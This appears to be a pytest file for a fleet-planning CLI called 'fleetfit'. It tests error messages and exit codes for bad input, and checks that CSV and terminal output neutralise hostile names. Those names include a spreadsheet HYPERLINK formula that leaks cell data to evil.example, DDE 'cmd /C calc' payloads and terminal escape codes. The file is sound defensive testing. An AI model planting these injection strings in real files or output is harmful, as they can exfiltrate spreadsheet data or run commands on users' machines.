"""The ``fleetfit`` command under bad input: one clear line naming what is wrong, a non-zero exit, no traceback;
and output that hostile names cannot turn into spreadsheet formulas or terminal escapes."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path

import pytest
from conftest import FLEETFIT

from agent.protocol import Plan, Recommendation, SolverReport, WorkloadClass
from agent.simulate import offline_windows
from collectors.sim.scenarios import build_scenario
from optimizer.serve.lifecycle import Lifecycle

EXAMPLE_FLEET = Path(__file__).resolve().parent.parent / "docs" / "examples" / "fleet.json"
BROKER = "mqtt://127.0.0.1:1"  # nothing listens on port 1

# (case id, arguments, extra environment, what the one line must name); {tmp} is the test's directory
CASES: list[tuple[str, list[str], dict[str, str], str]] = [
    ("classify-binary", ["classify", "{tmp}/binary.dat"], {}, "not a text file"),
    ("config-binary", ["agent", "--once", "--config", "{tmp}/binary.dat"], {}, "binary.dat: not a text file"),
    ("catalog-binary", ["plan", str(EXAMPLE_FLEET), "--catalog", "{tmp}/binary.dat"], {}, "catalog"),
    ("optimizer-catalog-binary", ["optimizer", "--config", "{tmp}/optimizer.toml"], {}, "binary.dat: not a text file"),
    ("command-typo", ["plann", str(EXAMPLE_FLEET)], {}, "invalid choice: 'plann'"),
    ("option-typo", ["plan", str(EXAMPLE_FLEET), "--time-limt", "5"], {}, "--time-limt"),
    ("plan-file-typo", ["plan", "{tmp}/flet.json"], {}, "flet.json"),
    ("plan-time-limit-not-a-number", ["plan", str(EXAMPLE_FLEET), "--time-limit", "5s"], {}, "--time-limit"),
    ("demo-nodes-not-an-integer", ["demo", "--nodes", "1.5"], {}, "--nodes"),
    ("plan-time-limit-0", ["plan", str(EXAMPLE_FLEET), "--time-limit", "0"], {}, "--time-limit"),
    ("plan-time-limit-neg", ["plan", str(EXAMPLE_FLEET), "--time-limit", "-1"], {}, "--time-limit"),
    ("plan-max-moves-neg", ["plan", str(EXAMPLE_FLEET), "--max-moves", "-1"], {}, "--max-moves"),
    ("demo-time-scale-0", ["demo", "--time-scale", "0"], {}, "--time-scale"),
    ("demo-time-scale-neg", ["demo", "--time-scale", "-1"], {}, "--time-scale"),
    ("simulate-time-scale-0", ["simulate", "--broker", BROKER, "--time-scale", "0"], {}, "--time-scale"),
    ("record-is-a-folder", ["simulate", "--broker", BROKER, "--record", "{tmp}"], {}, "--record"),
    ("record-dir-missing", ["simulate", "--broker", BROKER, "--record", "{tmp}/no/such.jsonl"], {}, "--record"),
    ("classify-horizon-neg", ["classify", "{tmp}/empty.jsonl", "--horizon", "-3"], {}, "--horizon"),
    ("demo-duration-0", ["demo", "--duration", "0"], {}, "--duration"),
    ("demo-duration-neg", ["demo", "--duration", "-5"], {}, "--duration"),
    ("simulate-duration-neg", ["simulate", "--broker", BROKER, "--duration", "-1"], {}, "--duration"),
    ("simulate-site-bad", ["simulate", "--broker", BROKER, "--site", "bad site"], {}, "--site"),
    ("broker-unreachable", ["simulate", "--broker", BROKER, "--nodes", "2", "--publish-interval", "1", "--duration", "2"], {},
     "--broker"),
    ("broker-no-scheme-colon", ["simulate", "--broker", "mqtt//host", "--duration", "0.5"], {}, "--broker"),
    ("broker-bad-port", ["simulate", "--broker", "mqtt://127.0.0.1:99999"], {}, "--broker"),
    ("broker-port-not-a-number", ["simulate", "--broker", "mqtt://127.0.0.1:abc"], {}, "--broker"),
    ("broker-password-file-missing", ["simulate", "--broker", BROKER, "--broker-password-file", "{tmp}/nope"], {},
     "--broker-password-file"),
    ("webhook-not-a-url", ["demo", "--alert-webhook", "slack=not-a-url"], {}, "URL after slack="),
    ("webhook-unknown-kind", ["demo", "--alert-webhook", "discord=https://x.example/"], {}, "KIND"),
    ("webhook-env-bad", ["demo"], {"FLEETFIT_ALERT_WEBHOOK": "teams=ftp://x.example/"}, "FLEETFIT_ALERT_WEBHOOK"),
    ("webhook-file-missing", ["demo", "--alert-webhook-file", "{tmp}/nope"], {}, "--alert-webhook-file"),
    ("env-override-bad", ["agent", "--once", "--config", "{tmp}/agent.toml"], {"FLEETFIT_MQTT_PORT": "abc"},
     "FLEETFIT_MQTT_PORT"),
    ("classify-empty", ["classify", "{tmp}/empty.jsonl"], {}, "none a telemetry window"),
    ("classify-not-windows", ["classify", "{tmp}/other.jsonl"], {}, "none a telemetry window"),
]  # fmt: skip


# What the command read was refused (a file's contents, a missing file, a config, the environment, a server): exit
# status 1. Everything else above is the command line itself: 2, as argparse's own errors (README, Exit status).
DATA_ERRORS = {
    "classify-binary", "config-binary", "catalog-binary", "optimizer-catalog-binary", "plan-file-typo",
    "broker-unreachable", "broker-password-file-missing", "webhook-env-bad", "webhook-file-missing",
    "env-override-bad", "classify-empty", "classify-not-windows",
}  # fmt: skip


@pytest.fixture(scope="module")
def inputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("bad-input")
    (tmp / "binary.dat").write_bytes(bytes(range(256)) * 8)
    (tmp / "empty.jsonl").write_bytes(b"")
    (tmp / "other.jsonl").write_text('{"hello": "world"}\n{"labels": {}}\n')
    (tmp / "agent.toml").write_text('[agent]\nnode = "n1"\n')
    (tmp / "optimizer.toml").write_text(f'[optimizer]\ncatalog = "{tmp}/binary.dat"\nstate_dir = "{tmp}/state"\n')
    return tmp


@pytest.mark.parametrize(("case", "args", "env", "names"), CASES, ids=[c[0] for c in CASES])
def test_bad_input_is_one_clear_line_and_a_failure(
    inputs: Path, case: str, args: list[str], env: dict[str, str], names: str
) -> None:
    """Deliberate bug caught by the status: every refusal exiting 2, so a script cannot tell a bad file (fix the
    data) from a bad command line (fix the script)."""
    argv = [FLEETFIT, *(a.replace("{tmp}", str(inputs)) for a in args)]
    environ = {k: v for k, v in os.environ.items() if not k.startswith("FLEETFIT_")} | env
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, env=environ, check=False)
    assert done.returncode == (1 if case in DATA_ERRORS else 2), (done.returncode, done.stderr)
    assert "Traceback" not in done.stderr, done.stderr
    ours = [line for line in done.stderr.splitlines() if line.startswith("fleetfit")]
    assert len(ours) == 1 and names in ours[0], done.stderr
    # argparse's own error prints a usage block of several lines before its message
    assert not any(line.startswith("usage:") for line in done.stderr.splitlines()), done.stderr


def _recording(path: Path) -> None:
    with path.open("w") as out:
        for node in build_scenario("mixed", 4, 1):
            birth, windows = offline_windows(node, 12)
            out.write(json.dumps({"birth": birth.model_dump(mode="json", by_alias=True, exclude_none=True)}) + "\n")
            for w in windows:
                out.write(json.dumps({"window": w.model_dump(mode="json", by_alias=True, exclude_none=True)}) + "\n")


def _into_a_closed_pipe(argv: list[str]) -> subprocess.CompletedProcess[bytes]:
    """Run ``argv`` with its output going to a pipe nobody reads any more (``… | head -1`` once head is gone)."""
    read, write = os.pipe()
    os.close(read)
    try:
        proc = subprocess.run(argv, stdout=write, stderr=subprocess.PIPE, timeout=60, check=False)
    finally:
        os.close(write)
    return proc


def test_output_into_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    _recording(tmp_path / "rec.jsonl")
    ok = subprocess.run(
        [FLEETFIT, "classify", str(tmp_path / "rec.jsonl")], capture_output=True, check=True, timeout=60
    )
    assert ok.stdout.count(b"\n") > 1  # there is more than one line to cut short
    classify = _into_a_closed_pipe([FLEETFIT, "classify", str(tmp_path / "rec.jsonl")])
    solver = SolverReport(status="OPTIMAL", objective=0, best_bound=0, gap=0, solve_seconds=0.1)
    life = Lifecycle.in_state_dir(tmp_path)
    life.record(Plan(site="lab", generated_at=1.7e9, solver=solver, recommendations=[_recommendation(1, "w")]), {})
    life.close()
    recommendations = _into_a_closed_pipe([FLEETFIT, "recommendations", "--state-dir", str(tmp_path)])
    # nothing on stderr but, for a read of the optimizer's state, the line naming the directory it read
    said = f"fleetfit: reading the optimizer's state in {tmp_path}\n".encode()
    for done, expected in ((classify, b""), (recommendations, said)):
        assert done.returncode != 0
        assert done.stderr == expected, done.stderr.decode()


HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "\rstarts with a CR",
    "\x1b[2J\x1b[31mred\x07",
]


def _recommendation(n: int, name: str) -> Recommendation:
    return Recommendation(
        id=f"rec-{n:04d}",
        workload=f"k8s/w{n}",
        workload_name=name,
        workload_class=WorkloadClass.INFERENCE,
        confidence=0.9,
        gpus=1,
        from_node="=cmd|' /C calc'!A0",
        from_hardware="H100-SXM5-80GB",
        to_node=f"l40s-{n}",
        to_hardware="L40S",
        monthly_savings_usd=1_000.0 + n,
        reason="inference on training hardware",
        performance_impact="none",
        risk="low",
        evidence=[],
    )


def test_recommendations_csv_and_table_neutralise_formulas_and_control_bytes(tmp_path: Path) -> None:
    recs = [_recommendation(n, name) for n, name in enumerate(HOSTILE_NAMES)]
    solver = SolverReport(status="OPTIMAL", objective=0, best_bound=0, gap=0, solve_seconds=0.1)
    life = Lifecycle.in_state_dir(tmp_path)
    life.record(Plan(site="lab", generated_at=1.7e9, solver=solver, recommendations=recs), {})
    life.close()
    base = [FLEETFIT, "recommendations", "--state-dir", str(tmp_path)]
    out = subprocess.run([*base, "--format", "csv"], capture_output=True, check=True, timeout=60).stdout.decode()
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(HOSTILE_NAMES)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell), (column, cell)
        assert row["from_node"] == "'=cmd|' /C calc'!A0"  # still readable, as text
    assert {r["workload"] for r in rows} >= {"'-2+3", "'@SUM(1+1)"}
    assert float(rows[0]["monthly_savings_usd"]) > 0  # numbers stay numbers
    table = subprocess.run(base, capture_output=True, check=True, timeout=60).stdout.decode()
    assert "\x1b" not in table and "\x07" not in table


def test_simulate_duration_holds_during_the_staggered_start(mosquitto: object) -> None:
    import time

    from conftest import MosquittoServer

    assert isinstance(mosquitto, MosquittoServer)
    started = time.monotonic()
    done = subprocess.run(
        [FLEETFIT, "simulate", "--broker", f"mqtt://127.0.0.1:{mosquitto.port}", "--nodes", "20", "--duration", "0.5"],
        capture_output=True,
        timeout=60,
        check=True,
    )
    elapsed = time.monotonic() - started
    print(f"simulate --duration 0.5 took {elapsed:.1f} s, start-up included")
    assert elapsed < 8, done.stderr.decode()  # nodes start over 10 s; none may hold the run past its duration
